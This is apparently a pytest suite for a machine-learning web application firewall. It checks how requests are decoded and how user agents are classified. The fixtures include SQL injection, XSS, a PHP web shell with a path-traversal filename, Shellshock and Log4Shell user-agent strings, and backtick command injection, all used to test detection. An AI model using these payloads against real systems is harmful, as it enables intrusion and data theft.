"""Decoding of requests from the `mlwaf score` input contract."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlwaf.inputs import header_inputs
from mlwaf.request import Arg, Limits, RequestError, from_wire, plain_agent, url_decode


def test_query_is_url_decoded_like_modsecurity() -> None:
    req = from_wire({"method": "get", "path": "/p%61th/x?q=%27%20OR%201%3D1--+x&empty=&flag&bad=%zz%4"})
    assert req.method == "GET"
    assert req.path == "/path/x"
    assert req.query.startswith("q=%27")
    assert Arg("query", "q", "' OR 1=1-- x") in req.args
    assert Arg("query", "empty", "") in req.args
    assert Arg("query", "flag", "") in req.args
    assert Arg("query", "bad", "%zz%4") in req.args  # invalid escapes stay as they are


def test_path_keeps_plus() -> None:
    assert from_wire({"path": "/a+b%20c"}).path == "/a+b c"


def test_form_body() -> None:
    req = from_wire(
        {
            "method": "POST",
            "path": "/login.php",
            "headers": {"Content-Type": "application/x-www-form-urlencoded; charset=UTF-8"},
            "body": "username=admin%27+OR+%271%27%3D%271&password=x",
        }
    )
    assert Arg("body", "username", "admin' OR '1'='1") in req.args
    assert req.content_length == len("username=admin%27+OR+%271%27%3D%271&password=x")


def test_json_body_is_flattened_like_modsecurity() -> None:
    body = json.dumps({"user": {"name": "<script>", "tags": ["a", 2, None, True]}, "n": 1.5})
    req = from_wire({"method": "POST", "path": "/api", "headers": {"content-type": "application/json"}, "body": body})
    assert Arg("json", "user.name", "<script>") in req.args
    assert Arg("json", "user.tags.array_0", "a") in req.args
    assert Arg("json", "user.tags.array_1", "2") in req.args
    assert Arg("json", "user.tags.array_2", "") in req.args
    assert Arg("json", "user.tags.array_3", "true") in req.args
    assert Arg("json", "n", "1.5") in req.args


def test_invalid_json_is_kept_as_raw_body() -> None:
    req = from_wire({"method": "POST", "path": "/", "headers": {"Content-Type": "application/json"}, "body": "{'x"})
    assert req.anomalies == ["json_invalid"]
    assert req.args == [Arg("body", "", "{'x")]


def test_deep_json_is_capped() -> None:
    body = "[" * 500 + "]" * 500
    req = from_wire({"method": "POST", "path": "/", "headers": {"Content-Type": "application/json"}, "body": body})
    assert "json_too_deep" in req.anomalies


def test_multipart_fields_and_file_names() -> None:
    body = (
        '--XyZ\r\nContent-Disposition: form-data; name="comment"\r\n\r\n<img src=x onerror=alert(1)>\r\n'
        '--XyZ\r\nContent-Disposition: form-data; name="upload"; filename="../../shell.php"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n"
    )
    headers = {"Content-Type": "multipart/form-data; boundary=XyZ"}
    req = from_wire({"method": "POST", "path": "/up", "headers": headers, "body": body})
    assert Arg("multipart", "comment", "<img src=x onerror=alert(1)>") in req.args
    assert Arg("multipart", "FILES_NAMES:upload", "../../shell.php") in req.args


def test_cookies_are_arguments() -> None:
    req = from_wire({"path": "/", "headers": {"Cookie": "sid=abc; pref=1' or '1'='1"}})
    assert Arg("cookie", "sid", "abc") in req.args
    assert Arg("cookie", "pref", "1' or '1'='1") in req.args


def test_limits_truncate_and_are_recorded() -> None:
    limits = Limits(max_body_bytes=10, max_args=3, max_value_chars=4)
    req = from_wire(
        {"method": "POST", "path": "/?a=1&b=2&c=3&d=4", "body": "x" * 100, "headers": {"Content-Type": "text/plain"}},
        limits,
    )
    assert req.content_length == 100
    assert len(req.args) == 3
    assert set(req.anomalies) == {"body_truncated", "args_truncated"}
    req = from_wire({"path": "/?a=" + "y" * 10}, limits)
    assert req.args == [Arg("query", "a", "yyyy")]
    assert req.anomalies == ["value_truncated"]


def test_thousands_of_parameters() -> None:
    query = "&".join(f"p{i}={i}" for i in range(20000))
    req = from_wire({"path": "/?" + query})
    assert len(req.args) == Limits().max_args
    assert "args_truncated" in req.anomalies


@pytest.mark.parametrize(
    "record",
    [
        [],
        {"method": "GE T", "path": "/"},
        {"path": ""},
        {"path": 3},
        {"path": "/", "headers": []},
        {"body": 5},
        {"path": "/", "ts": "yesterday"},
        {"path": "/", "ts": True},
    ],
)
def test_bad_records_are_refused_with_a_reason(record: object) -> None:
    with pytest.raises(RequestError):
        from_wire(record)  # type: ignore[arg-type]


def test_url_decode_invalid_utf8_is_replaced() -> None:
    assert url_decode("%ff%fe") == "\ufffd\ufffd"


records = st.fixed_dictionaries(
    {},
    optional={
        "method": st.text(max_size=10),
        "path": st.text(max_size=200),
        "headers": st.dictionaries(st.text(max_size=20), st.text(max_size=80), max_size=5)
        | st.just({"Content-Type": "application/json"})
        | st.just({"Content-Type": "multipart/form-data; boundary=b"}),
        "body": st.text(max_size=500),
        "ts": st.floats(allow_nan=False) | st.integers(),
        "client_ip": st.text(max_size=40),
    },
)


@settings(max_examples=400, deadline=None)
@given(records)
def test_decoder_never_crashes(record: dict) -> None:
    try:
        req = from_wire(record)
    except RequestError:
        return
    assert len(req.args) <= Limits().max_args
    assert all(isinstance(a.value, str) for a in req.args)


@pytest.mark.parametrize(
    ("agent", "plain"),
    [
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", True),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", True),
        ("curl/8.5.0", True),
        ("Apache/2.4.29 (Ubuntu) OpenSSL/1.1.1 (internal dummy connection)", True),
        ("() { :; }; /bin/cat /etc/passwd", False),
        ("Mozilla/5.0' or 1=1--", False),
        ("${jndi:ldap://x.example/a}", False),
        ("<script>alert(1)</script>", False),
        ("1 union select password from users", False),  # no version, no comment: read
        ("(../../etc/passwd)", False),
        ("a/b/c", False),
        ("", False),
    ],
)
def test_plain_user_agents_are_not_read(agent: str, plain: bool) -> None:
    assert plain_agent(agent) is plain
    assert any(header_inputs({"user-agent": agent})) is (bool(agent) and not plain)


def test_past_the_argument_limit_values_with_syntax_are_kept_first() -> None:
    fillers = "&".join(f"n{i}=tea" for i in range(30))
    req = from_wire({"path": f"/?{fillers}&q=%60id%60&z=1"}, Limits(max_args=10))
    assert Arg("query", "q", "`id`") in req.args, "the attack outranks the plain fillers"
    assert len(req.args) == 10
    assert req.args[:9] == [Arg("query", f"n{i}", "tea") for i in range(9)], "the order is kept"
    assert "args_truncated" in req.anomalies
